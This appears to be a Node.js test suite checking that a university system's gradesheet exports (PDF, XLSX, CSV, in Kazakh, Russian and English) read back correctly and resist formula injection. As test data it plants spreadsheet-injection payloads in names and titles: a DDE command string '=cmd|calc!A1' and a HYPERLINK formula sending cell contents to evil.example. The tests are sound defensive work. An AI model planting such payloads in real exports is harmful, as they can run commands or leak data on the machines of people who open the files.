// Gradesheets as PDF, XLSX and CSV (O7, C7): what each says, read back by programs that are not ours.
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { makePerson } from '../harness/faculty.mjs'
import { startStack } from '../harness/stack.mjs'
import { refused, signIn } from './client.mjs'
import { giveDate, giveResult, makeHeard, makeRegistrar, makeSheet, sha256 } from './gradesheet.mjs'

const directory = mkdtempSync(join(tmpdir(), 'gradesheet-'))
let stack, registrar
before(async () => {
  stack = await startStack()
  registrar = await makeRegistrar(stack)
})
after(() => stack.stop())
after(() => rmSync(directory, { recursive: true }))

const letters = 'Әә Ғғ Ққ Ңң Өө Ұұ Үү Һһ Іі'
const tool = (name, input, ...options) => execFileSync(name, options, { input, maxBuffer: 1 << 26 })
const textOf = (pdf) => tool('pdftotext', pdf, '-layout', '-', '-').toString()
const inOneLine = (text) => text.replaceAll(/\s+/g, ' ')

// A confirmed sheet of a graded, a failed, an absent, a waiting student: { …makeSheet, sheet }.
async function confirmed(names = [`Әбдірахманов ${letters}`, 'Бекова Ботагөз', '=cmd|calc!A1', '"Қос; тырнақша"'], more = {}) {
  const made = await makeSheet(stack, names, more)
  await giveResult(stack, made.sitting, made.students[0], 18)
  if (made.students[1]) await giveResult(stack, made.sitting, made.students[1], 12)
  if (made.students[3]) await giveDate(stack, made, made.students[3], null)
  return { ...made, sheet: await made.teacher.confirmGradesheet({ id: made.exam }, {}) }
}

const said = {
  kk: ['№ 1 тізімдеме', 'емтихан тізімдемесі', 'Емтихан сессиясы Қысқы сессия', 'Емтихан түрі тест емтиханы', 'Шекті балл 26', 'бағаланды', 'келмеді',
    'Студенттер саны 4', 'Әріптік бағалар B+: 1; FX: 1', 'Жетекші оқытушы Ахметова Сәуле Қанатқызы', 'электрондық түрде расталды', 'Офис-тіркеуші', 'Бақылау сомасы'],
  ru: ['Ведомость № 1', 'экзаменационная ведомость', 'Экзаменационная сессия Зимняя сессия', 'тестовый экзамен', 'Пороговый балл 26', 'оценён', 'не явился',
    'Число студентов 4', 'Буквенные оценки B+: 1; FX: 1', 'Ведущий преподаватель Ахметова Сәуле Қанатқызы', 'подтверждено электронно', 'Офис-регистратор', 'Контрольная сумма'],
  en: ['Gradesheet No. 1', 'of final grades', 'Exam session Winter session', 'test exam', 'Threshold score 26', 'graded', 'absent',
    'Students 4', 'Letter grades B+: 1; FX: 1', 'Lead teacher Ахметова Сәуле Қанатқызы', 'confirmed electronically', 'Registrar', 'Checksum'],
}
test('O7: the PDF says in Kazakh, Russian and English what the sheet says, with its checksum', async () => {
  const { sheet, teacher, group } = await confirmed()
  for (const [language, sentences] of Object.entries(said)) {
    const pdf = await teacher.getGradesheetPdf({ id: sheet.id, language })
    assert.equal(teacher.last.headers.get('content-disposition'), 'attachment; filename="gradesheet-1.pdf"')
    const text = inOneLine(textOf(pdf))
    for (const sentence of [...sentences, ...letters.split(' '), group, sheet.checksum, 'B+ 3.33 4']) assert.ok(text.includes(sentence), `${language}: "${sentence}" in ${text}`)
  }
  await refused(teacher.getGradesheetPdf({ id: sheet.id, language: 'de' }), 'bad_value', { field: 'language', reason: 'unknown_language' })
  await stack.sql("update users set language = 'ru' where id = $1", [teacher.user.id])
  assert.match(textOf(await teacher.getGradesheetPdf({ id: sheet.id })), /Ведомость № 1/)
})

test('C7, O7: the PDF of an exam before a commission has places for the signatures of all of it', async () => {
  const made = await makeHeard(stack, ['Бекова Ботагөз'], { kind: 'creative' })
  await stack.sql('select result_record(null, $1, $2, 36.5)', [made.sitting, made.students[0].id])
  const sheet = await made.lead.confirmGradesheet({ id: made.exam }, {})
  const text = inOneLine(textOf(await made.chair.getGradesheetPdf({ id: sheet.id, language: 'kk' })))
  for (const sentence of ['шығармашылық емтихан', 'Шекті балл 20', 'Комиссия құрамы Омаров Қайрат, Ли Александр, Сейітова Динара', 'Бекова Ботагөз 50 36.5 87 B+',
    'Жетекші оқытушы Жетекші Жанар', 'Комиссия төрағасы Омаров Қайрат', 'Комиссия мүшесі Ли Александр', 'Комиссия мүшесі Сейітова Динара', 'Офис-тіркеуші'])
    assert.ok(text.includes(sentence), `"${sentence}" in ${text}`)
})

test('O7: the QR code on the PDF is the address at which anybody verifies its checksum', async () => {
  const { sheet, teacher } = await confirmed()
  const page = join(directory, 'page')
  tool('pdftoppm', await teacher.getGradesheetPdf({ id: sheet.id, language: 'kk' }), '-png', '-r', '150', '-', page)
  const png = readdirSync(directory).find((name) => name.startsWith('page'))
  const code = execFileSync('zbarimg', ['--quiet', '--raw', join(directory, png)]).toString().trim()
  assert.equal(code, `${stack.address}/#/verify/${sheet.checksum}`)
  assert.equal((await teacher.verifyGradesheet({ checksum: code.split('/').pop() })).number, sheet.number)
})

test('O7: a long table goes over pages, each with the head of the table, and nobody is lost', async () => {
  const names = Array.from({ length: 90 }, (_, i) => `Студент${String(i).padStart(3, '0')} Ұзын Аты Әкесінің Аты`)
  const { sheet, teacher } = await confirmed(names)
  const pages = textOf(await teacher.getGradesheetPdf({ id: sheet.id, language: 'ru' })).split('\f').filter((page) => page.trim())
  assert.ok(pages.length >= 3)
  for (const [at, page] of pages.entries()) {
    assert.match(page, new RegExp(`${at + 1}/${pages.length}\\s*$`))
    assert.equal(/Студент\d/.test(page), page.includes('Рейтинг'), `page ${at + 1}`)
  }
  const text = pages.join('\n')
  for (const name of names) assert.ok(text.includes(name.split(' ')[0]), name)
})

// The sheets of a workbook as LibreOffice reads them: lists of cells.
function sheetsOf(xlsx) {
  const file = join(directory, 'book.xlsx')
  writeFileSync(file, xlsx)
  execFileSync('soffice', [`-env:UserInstallation=file://${directory}/office`, '--headless', '--convert-to',
    'csv:Text - txt - csv (StarCalc):9,34,76,1,,0,false,false,false,false,false,-1', '--outdir', directory, file], { stdio: 'ignore' })
  return readdirSync(directory).filter((name) => name.startsWith('book-')).sort().map((name) =>
    readFileSync(join(directory, name), 'utf8').trimEnd().split('\n').map((line) => line.split('\t').map((cell) => cell.replace(/^"(.*)"$/s, '$1').replaceAll('""', '"'))))
}

test('O7: LibreOffice reads of the XLSX what the sheet says; numbers are numbers, formulas stay texts', async () => {
  const { sheet, teacher, students } = await confirmed()
  const xlsx = await teacher.getGradesheetXlsx({ id: sheet.id, language: 'en' })
  assert.equal(teacher.last.headers.get('content-disposition'), 'attachment; filename="gradesheet-1.xlsx"')
  const [table, notes] = sheetsOf(xlsx)
  assert.deepEqual(table[0], ['No.', 'Full name', 'Login', 'Rating', 'Exam points', 'Total', 'Letter', 'Grade points', 'Traditional', 'Result'])
  const byLogin = new Map(table.slice(1).map((row) => [row[2], row]))
  assert.equal(byLogin.size, 4)
  for (const line of sheet.lines) {
    const numbers = [line.rating, line.exam_points, line.total].map((one) => (one === null ? '' : String(Number(one))))
    assert.deepEqual(byLogin.get(line.login).slice(0, 7), [String(line.n), line.full_name, line.login, ...numbers, line.letter ?? ''])
  }
  assert.equal(byLogin.get(students[2].login)[1], '=cmd|calc!A1')
  assert.equal(byLogin.get(students[3].login)[9], 'technical, waits for a new date')
  assert.ok(notes.flat().some((cell) => cell.includes(sheet.checksum)))
  assert.deepEqual(notes[0].slice(0, 1), ['Gradesheet No. 1'])
  const part = (name) => execFileSync('unzip', ['-p', join(directory, 'book.xlsx'), name]).toString()
  assert.match(part('xl/worksheets/sheet1.xml'), /<pane ySplit="1" topLeftCell="A2"[^>]*state="frozen"/)
  assert.match(part('xl/worksheets/sheet1.xml'), /<c r="D2"><v>50<\/v><\/c>/) // a number has no type
  assert.doesNotMatch(part('xl/worksheets/sheet1.xml'), /<f>/)
  assert.ok(xlsx.equals(await teacher.getGradesheetXlsx({ id: sheet.id, language: 'en' })), 'the same sheet is the same bytes')
})

// A reader of RFC 4180 with semicolons, written from the standard.
function recordsOf(bytes) {
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
  const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes)
  assert.ok(text.endsWith('\r\n'))
  const records = [[]]
  const cell = /("(?:[^"]|"")*"|[^";\r\n]*)(;|\r\n)/gy
  for (let found; (found = cell.exec(text)); ) {
    records.at(-1).push(found[1].startsWith('"') ? found[1].slice(1, -1).replaceAll('""', '"') : found[1])
    if (found[2] === '\r\n') records.push([])
  }
  assert.deepEqual(records.pop(), [])
  return records
}

test('O7: the CSV is read back cell by cell, no cell is a formula, and its checksum can be recomputed from it', async () => {
  const { sheet, teacher } = await confirmed()
  const csv = await teacher.getGradesheetCsv({ id: sheet.id })
  assert.match(teacher.last.headers.get('content-type'), /^text\/csv; charset=utf-8$/)
  const records = recordsOf(csv)
  for (const cell of records.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/)
  assert.deepEqual(records[0], [...sheet.columns, 'checksum'])
  const plain = records.map((record) => record.map((cell) => cell.replace(/^'/, '')))
  assert.deepEqual(plain.slice(1).map((record) => record.at(-1)), sheet.lines.map(() => sheet.checksum))
  assert.deepEqual(plain.slice(1).map((record) => record[sheet.columns.indexOf('full_name')]), sheet.lines.map(({ full_name }) => full_name))
  assert.equal(sha256(plain.map((record) => `${record.slice(0, -1).join('\t')}\n`).join('')), sheet.checksum)
})

test('Attack: no text of a sheet becomes a formula or a link in its CSV and XLSX, in whatever field and behind whatever it stands', async () => {
  const formula = 'HYPERLINK("https://evil.example?"&A1;"click")'
  const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n@', ' =', "'=", '"=', ';=', '=;', '\u00a0=', '\u200b=', '\ufeff=', '%', '|']
  const made = await makeSheet(stack, starts.map((start) => start + formula))
  await stack.sql('update disciplines set title_kk = $2, title_ru = $2, title_en = $2 where code = $1', [made.discipline, `=${formula}`])
  await stack.sql('update exam_sessions set title_kk = $2, title_ru = $2, title_en = $2 where code = $1', [made.session, `+${formula}`])
  await stack.sql('update groups set name = $2 where name = $1', [made.group, `-1+${made.group}`])
  await stack.sql('update users set full_name = $2 where id = $1', [made.lead.id, `@${formula}`])
  const sheet = await made.teacher.confirmGradesheet({ id: made.exam }, {})
  const records = recordsOf(await made.teacher.getGradesheetCsv({ id: sheet.id }))
  assert.equal(new Set(records.map((record) => record.length)).size, 1)
  assert.ok(records.flat().filter((cell) => cell.includes('HYPERLINK')).length >= 2 * starts.length, 'names and disciplines are in it')
  for (const cell of records.flat()) assert.doesNotMatch(cell, /^[\s\u200b\ufeff]*[=+\-@]/u)
  for (const language of ['kk', 'ru', 'en']) {
    writeFileSync(join(directory, 'attack.xlsx'), await made.teacher.getGradesheetXlsx({ id: sheet.id, language }))
    const parts = execFileSync('unzip', ['-p', join(directory, 'attack.xlsx')]).toString()
    assert.ok(parts.includes('HYPERLINK'))
    assert.doesNotMatch(parts, /<f[ >]|<hyperlink|TargetMode="External"|<ddeLink|<externalReference/)
  }
})

test('O7: the recipe of the README recomputes the checksum from the JSON', async () => {
  const { sheet, teacher } = await confirmed()
  await teacher.getGradesheet({ id: sheet.id })
  const recipe = /^    (jq .+) \| sha256sum$/m.exec(readFileSync('README.md', 'utf8'))[1]
  assert.equal(sha256(execFileSync('bash', ['-c', recipe], { input: teacher.last.text })), sheet.checksum)
})

test('O7: line ends and tabs in names cannot shift the cells of a sheet', async () => {
  const { sheet, teacher } = await confirmed(["'Апостроф\tТаб\nЖол", '+7 701', 'Жай'])
  const records = recordsOf(await teacher.getGradesheetCsv({ id: sheet.id }))
  const at = sheet.columns.indexOf('full_name')
  assert.deepEqual(records.slice(1).map((record) => record[at]).sort(), ["''Апостроф Таб Жол", "'+7 701", 'Жай'])
  assert.equal(new Set(records.map((record) => record.length)).size, 1)
})

test('O7: a closed sheet names the registrar; the lane of documents answers busy instead of stopping saves', async () => {
  const { sheet, teacher } = await confirmed()
  await registrar.closeGradesheet({ id: sheet.id }, {})
  const wanted = async () => {
    for (;;) {
      const pdf = await teacher.getGradesheetPdf({ id: sheet.id, language: 'kk' }).catch((error) => error)
      if (Buffer.isBuffer(pdf)) return pdf
      assert.equal(pdf.body.code, 'busy')
    }
  }
  const [first, ...others] = await Promise.all(Array.from({ length: 8 }, wanted))
  for (const pdf of others) assert.ok(pdf.equals(first))
  assert.match(inOneLine(textOf(first)), /Офис-тіркеуші Нұрланова Айша электрондық түрде жабылды/)
})

test('O7: the address on paper takes the origin of the settings, whatever the Host', async () => {
  const stranger = await signIn(stack, (await makePerson(stack, { roles: ['registrar'] })).login)
  const { sheet } = await confirmed()
  assert.ok(textOf(await stranger.getGradesheetPdf({ id: sheet.id })).includes(stack.address.replace('http://', '')))
})
